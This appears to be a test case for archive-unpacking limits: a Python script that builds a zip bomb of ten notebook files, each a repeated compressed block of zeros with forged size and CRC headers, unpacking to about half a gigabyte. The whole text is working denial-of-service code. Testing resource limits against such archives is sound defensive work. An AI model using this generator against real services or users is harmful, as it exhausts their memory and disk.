"""Notebooks, each as large as one may be, that unpack to half a gigabyte together."""
# control: unpack
# layout: zip
# %% attack on the file
import struct, zipfile, zlib
def bomb(path, name, megabytes):
    """Write a member of zeros, without packing them all: a piece of the packed stream is repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = piece * megabytes + b"\x03\0"
    check = 0
    for _ in range(megabytes):
        check = zlib.crc32(bytes(1 << 20), check)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(name, packed)
        member = archive.getinfo(name)
        member.compress_type, member.CRC, member.file_size = zipfile.ZIP_DEFLATED, check, megabytes << 20
        member.compress_size = len(packed)
        archive.fp.seek(member.header_offset)
        archive.fp.write(member.FileHeader(zip64=False))
        archive.fp.seek(0, 2)

for number in range(10):
    bomb(file, f"{number}.ipynb", 55)
